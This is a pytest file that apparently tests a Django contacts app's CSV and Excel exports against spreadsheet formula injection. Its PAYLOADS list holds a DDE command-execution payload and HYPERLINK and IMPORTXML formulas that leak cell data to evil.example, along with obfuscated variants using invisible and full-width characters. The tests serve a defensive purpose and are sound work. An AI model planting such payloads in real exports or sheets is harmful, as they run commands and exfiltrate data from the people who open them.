"""No cell of a CSV or Excel export is one a spreadsheet would run (OWASP, "CSV Injection"):
a corpus of payloads is exported through the admin, each file read back, and every cell put
to a model of what Excel, LibreOffice and Google Sheets evaluate, more credulous than any of
them: the cell split at every separator a misread file splits at, full-width forms folded,
whitespace and invisible characters trimmed. The export must still say what was typed.
"""

import csv
import io
import re
import unicodedata

import pytest
from openpyxl import load_workbook

from contacts.imports.formula_injection import neutralise, restore
from tests.factories import make_media_contact

pytestmark = pytest.mark.django_db

CHANGELIST_URL = "/admin/contacts/mediacontact/"
# The column of the notes in an export (contacts/imports/columns.py).
NOTES = 13
DDE = "cmd|' /C calc'!A0"
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    f"={DDE}",
    f"-2+3+{DDE}",
    f"@SUM(1+9)*{DDE}",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click here")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    f"   +{DDE}",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u200e=1+1",  # left-to-right mark
    "\u202e=1+1",  # right-to-left override
    "\u2060=1+1",  # word joiner
    "\x01=1+1",  # a control character
    "\u200b \u200d\t=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "﹦1+1",  # small equals sign
    "Smith;=2+3",
    "Smith,=2+3",
    "Smith\t=2+3",
    "Smith\n=2+3",
    "Smith\r\n=2+3",
    "Smith; =2+3",
    "Smith;\u200b=2+3",
    "Smith;＝2+3",
    "a;b;=1+1;c,+2,@x",
    "\tx",
    "\rx",
]
# What the model trims before looking at a cell's first character.
TRIMMED = "".join(
    chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Zs", "Cc", "Cf")
)


def runs(cell):
    """Whether any spreadsheet might run `cell`, split as a misread file would split it."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True  # OWASP: a cell starting with a tab or a line break
    for part in re.split(r"[,;\t\r\n]", cell):
        part = unicodedata.normalize("NFKC", part).lstrip(TRIMMED)
        if part[:1] in ("=", "+", "-", "@"):
            return True
    return False


def test_the_model_would_run_every_payload():
    assert [payload for payload in PAYLOADS if not runs(payload)] == []


def export(client, action, contacts):
    data = {"action": action, "index": 0, "_selected_action": [c.pk for c in contacts]}
    return client.post(CHANGELIST_URL, data)


@pytest.fixture
def payload_contacts():
    """One contact per payload, in its notes and its job title; its last name is its index."""
    return [
        make_media_contact("P", f"{number}", notes=payload, job_title=payload)
        for number, payload in enumerate(PAYLOADS)
    ]


def test_no_cell_of_a_csv_export_would_run_and_each_says_what_was_typed(
    officer_client, payload_contacts
):
    response = export(officer_client, "export_csv", payload_contacts)

    content = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    assert [cell for row in rows for cell in row if runs(cell)] == []
    typed = {row[2]: (restore(row[NOTES]), restore(row[5])) for row in rows[1:]}
    assert typed == {str(number): (p, p) for number, p in enumerate(PAYLOADS)}
    assert content.startswith('"Email","First name"')  # every cell in quotes


def test_no_cell_of_an_excel_export_would_run_and_each_says_what_was_typed(
    officer_client, payload_contacts
):
    response = export(officer_client, "export_xlsx", payload_contacts)

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows())
    assert len(rows) == len(PAYLOADS) + 1
    assert {cell.data_type for row in rows for cell in row if cell.value is not None} == {"s"}
    assert [cell.value for row in rows for cell in row if cell.value and runs(cell.value)] == []
    typed = {row[2].value: restore(row[NOTES].value) for row in rows[1:]}
    # A workbook can't hold control characters, and XML reads a stored CR back as LF.
    assert typed == {
        str(number): re.sub("\x01", "", p).replace("\r\n", "\n").replace("\r", "\n")
        for number, p in enumerate(PAYLOADS)
    }


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        ("Anna Müller", "Anna Müller"),
        ("anna.muller@zeit.example", "anna.muller@zeit.example"),
        ("O'Brien", "O'Brien"),
        ("2024-03-01", "2024-03-01"),
        ("Climate, Energy", "Climate, Energy"),
        ("Ørsted-Hansen", "Ørsted-Hansen"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5", "'-5"),
        ("Mobile; +44 7700 900000", "Mobile;' +44 7700 900000"),
        ("Call after 5\n- not on Fridays", "Call after 5\n'- not on Fridays"),
        ("#N/A", "#N/A"),
    ],
)
def test_genuine_data_is_left_alone_unless_a_spreadsheet_would_run_it(typed, exported):
    assert (neutralise(typed), restore(neutralise(typed))) == (exported, typed)


def test_a_cell_that_says_n_a_stays_text_in_an_excel_export(officer_client):
    contact = make_media_contact(notes="#N/A")

    response = export(officer_client, "export_xlsx", [contact])

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    notes = list(sheet.iter_rows())[1][NOTES]
    assert (notes.value, notes.data_type) == ("#N/A", "s")
